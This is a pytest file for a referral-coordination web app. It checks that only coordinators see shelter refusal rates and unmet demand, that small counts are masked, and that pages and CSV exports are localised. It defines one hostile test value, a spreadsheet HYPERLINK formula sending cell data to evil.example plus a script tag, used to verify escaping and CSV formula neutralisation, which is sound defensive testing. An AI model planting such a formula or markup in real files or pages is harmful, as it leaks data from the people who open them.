"""What coordinators see of referral outcomes and unmet demand: /v1/gaps, /coordination/outcomes, the
dashboard's section, the division report and the CSV — and what nobody else sees.

The demo's must-show: five referrals from one organisation to a Huy shelter and three «no place» outcomes
make Huy show a refusal rate with «no place» as main reason; two counts of 1 show as «< 3».
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date

import pytest
from fastapi.testclient import TestClient

from api.http.app import create_app
from api.http.routers.pages.loop import month_words
from graph.memory_store import MemoryStore
from graph.models import Organisation, OutcomeReason
from graph.reference import Reference
from graph.referral import Role
from graph.usecases import Caller
from tests.api.conftest import auth, demo_store, settings, signed_in

SHELTER, SERVICE = "shelter-h-1", "shelter-h-1-svc"
OTHER_SHELTER, OTHER_SERVICE = "shelter-h-2", "shelter-h-2-svc"
SENDER = "amb-h-1"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Refuge") <script>alert(1)</script>'
THIS_MONTH = date.today().strftime("%Y-%m")


def _record_must_show(client: TestClient) -> None:
    """Five referrals to the shelter, three «no place»; at another shelter one accepted and one declined."""
    outcomes = client.app.state.relais.outcomes  # type: ignore[attr-defined]
    pro = Caller(Role.PROFESSIONAL, key_id="k-pro", organisation_id=SENDER)
    for _ in range(5):
        outcomes.record_referral(pro, SERVICE, "partner-violence")
    for org, service, counts in (
        (SHELTER, SERVICE, {OutcomeReason.NO_PLACE: 3}),
        (OTHER_SHELTER, OTHER_SERVICE, {OutcomeReason.ACCEPTED: 1, OutcomeReason.DECLINED: 1}),
    ):
        editor = Caller(Role.EDITOR, key_id="k-edit", organisation_id=org)
        current = outcomes.outcomes(editor, service)
        outcomes.set_outcomes(editor, service, current.month, counts, current.version)


@pytest.fixture
def loop_client(reference: Reference) -> Iterator[TestClient]:
    """The demo with the must-show counts, and a shelter whose name is a formula and markup."""
    store = demo_store(MemoryStore(), reference)
    shelter = store.get(Organisation, SHELTER)
    store.upsert([shelter.model_copy(update={"name": HOSTILE})])
    with TestClient(create_app(settings(), store)) as client:
        _record_must_show(client)
        yield client


def test_a_coordinator_reads_the_refusal_rate_and_its_reason_in_the_shelters_division(
    loop_client: TestClient,
) -> None:
    body = loop_client.get("/v1/gaps?division=huy", headers=auth("coordinator")).json()
    outcomes = body["referral_outcomes"]
    (shelter,) = [r for r in outcomes["refusals_by_service"] if r["service"] == SERVICE]
    assert (shelter["refusal_rate"], shelter["main_reason"], shelter["requests"]) == (0.6, "no-place", 5)
    (other,) = [r for r in outcomes["refusals_by_service"] if r["service"] == OTHER_SERVICE]
    assert other["reasons"]["accepted"] == other["reasons"]["declined"] == "< 3"
    assert other["refusal_rate"] is None
    capacity = [g for g in body["gaps"] if g["kind"] == "capacity-gap"]
    assert capacity == [
        {
            "kind": "capacity-gap",
            "division": "huy",
            "organisation": SHELTER,
            "service": SERVICE,
            "month": THIS_MONTH,
            "no_place": 3,
        }
    ]


def test_the_division_filter_keeps_other_divisions_figures_out(loop_client: TestClient) -> None:
    body = loop_client.get("/v1/gaps?division=liege", headers=auth("coordinator")).json()
    outcomes = body["referral_outcomes"]
    assert outcomes["refusals_by_service"] == outcomes["refusals_by_division"] == []
    assert not [g for g in body["gaps"] if g["kind"] == "capacity-gap"]
    assert all(f["division"] == "liege" or "liege" in str(f) for f in outcomes["flows_without_agreement"])


@pytest.mark.parametrize("role", ["professional", "editor"])
def test_other_members_get_the_gaps_without_any_refusal_figure(loop_client: TestClient, role: str) -> None:
    response = loop_client.get("/v1/gaps?division=huy", headers=auth(role))
    assert response.status_code == 200
    assert "referral_outcomes" not in response.json()
    assert not [g for g in response.json()["gaps"] if g["kind"] == "capacity-gap"]
    assert "refusal_rate" not in response.text and "no_place" not in response.text


def test_the_public_gets_no_gaps_at_all(loop_client: TestClient) -> None:
    assert loop_client.get("/v1/gaps?division=huy").status_code == 403
    assert loop_client.get("/v1/outcomes.csv").status_code == 403


def test_the_page_says_the_shelters_no_place_in_words_never_codes(loop_client: TestClient) -> None:
    page = signed_in(loop_client).get("/coordination/outcomes?division=huy&months=3&lang=fr")
    assert page.status_code == 200
    text = page.text
    assert "Pas de place — manque de places" in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text and "<script>alert" not in text
    assert "60 %" in text and month_words(THIS_MONTH, "fr") in text
    assert text.count("un si petit nombre pourrait désigner une personne") == 1
    assert "&lt; 3" in text and "La personne a refusé" in text
    for code in ("no-place", SERVICE, f">{THIS_MONTH}<", ">huy<", "partner-violence"):
        assert code not in text


def test_the_page_speaks_dutch_and_filters_by_division(loop_client: TestClient) -> None:
    client = signed_in(loop_client)
    huy = client.get("/coordination/outcomes?division=huy&lang=nl").text
    assert "Geen plaats — plaatstekort" in huy and "Weigeringen per dienst" in huy
    liege = client.get("/coordination/outcomes?division=liege&lang=nl").text
    by_service = liege.split('id="by-service"')[1].split("</section>")[0]
    assert "Geen plaats — plaatstekort" not in liege and "Niets te melden voor deze periode." in by_service


def test_unmet_demand_counted_by_the_finder_shows_on_the_page_and_the_dashboard(loop_client: TestClient) -> None:
    asked = loop_client.get(
        "/v1/referrals?situation=forced-marriage&commune=Huy&language=ti", headers=auth("professional")
    )
    assert asked.status_code == 200
    client = signed_in(loop_client)
    page = client.get("/coordination/outcomes?division=huy&lang=fr").text
    unmet = page.split('id="unmet"')[1]
    assert "Mariage forcé" in unmet and "Non précisée" in unmet
    assert "tigrigna" not in unmet.lower()  # one question in a rare language would point at its asker
    dashboard = client.get("/coordination?lang=fr").text
    assert 'href="/coordination/outcomes?lang=fr"' in dashboard
    assert "Mariage forcé" in dashboard and "Pas de place" not in dashboard.split('id="outcomes"')[0]
    assert f"{month_words(THIS_MONTH, 'fr')} : &lt; 3" in dashboard


@pytest.mark.parametrize("role", ["professional", "editor"])
def test_the_page_and_the_csv_are_for_coordinators_only(loop_client: TestClient, role: str) -> None:
    page = signed_in(loop_client, role).get("/coordination/outcomes?lang=fr", follow_redirects=False)
    assert page.status_code == 403 and "Pas de place" not in page.text
    assert loop_client.get("/v1/outcomes.csv", headers=auth(role)).status_code == 403


def test_the_csv_has_a_header_in_the_language_and_no_formula(loop_client: TestClient) -> None:
    response = loop_client.get("/v1/outcomes.csv?division=huy&months=6&lang=nl", headers=auth("coordinator"))
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "Tabel",
        "Afdeling",
        "Maand",
        "Organisatie",
        "Partner",
        "Situatie of behoefte",
        "Taal van de persoon",
        "Dringend",
        "Maat",
        "Waarde",
    ]
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'{HOSTILE}" in cells
    assert "< 3" in cells and "Geen plaats" in cells and "Hoei" in cells
    assert THIS_MONTH not in response.text and month_words(THIS_MONTH, "nl") in cells
    assert all(len(row) == len(rows[0]) for row in rows)


def test_a_coordinators_division_report_has_the_section_and_nobody_elses(loop_client: TestClient) -> None:
    mine = loop_client.get("/v1/report?division=huy&lang=fr", headers=auth("coordinator")).text
    assert "Orientations, refus et demande non rencontrée" in mine and "Pas de place — manque de places" in mine
    assert "<script>alert" not in mine
    theirs = loop_client.get("/v1/report?division=huy&lang=fr", headers=auth("professional")).text
    assert "Orientations, refus et demande non rencontrée" not in theirs and "<!--" not in theirs
    dutch = loop_client.get("/v1/report?division=huy&lang=nl", headers=auth("coordinator")).text
    assert "Weigeringen per afdeling" in dutch and "Geen plaats — plaatstekort" in dutch


def test_a_total_with_a_small_part_is_said_as_at_least_in_words(loop_client: TestClient) -> None:
    outcomes = loop_client.app.state.relais.outcomes  # type: ignore[attr-defined]
    editor = Caller(Role.EDITOR, key_id="k-edit", organisation_id="shelter-v-1")
    current = outcomes.outcomes(editor, "shelter-v-1-svc")
    counts = {OutcomeReason.ACCEPTED: 5, OutcomeReason.NO_PLACE: 1, OutcomeReason.DECLINED: 3}
    outcomes.set_outcomes(editor, "shelter-v-1-svc", current.month, counts, current.version)
    page = signed_in(loop_client).get("/coordination/outcomes?division=verviers&lang=fr").text
    by_service = page.split('id="by-service"')[1].split("</section>")[0]
    assert "Accepté·e : 5 · Pas de place : &lt; 3 · La personne a refusé : 3" in by_service
    assert ">au moins 4<" in by_service  # the refusals: 4 − 3 must not give the «< 3» back
    assert ">au moins 9<" in by_service  # the requests: 9 − 5 − 3 neither
    csv_text = loop_client.get("/v1/outcomes.csv?division=verviers&lang=de", headers=auth("coordinator")).text
    assert "mindestens 4" in csv_text and ",1\r\n" not in csv_text and ",1\n" not in csv_text
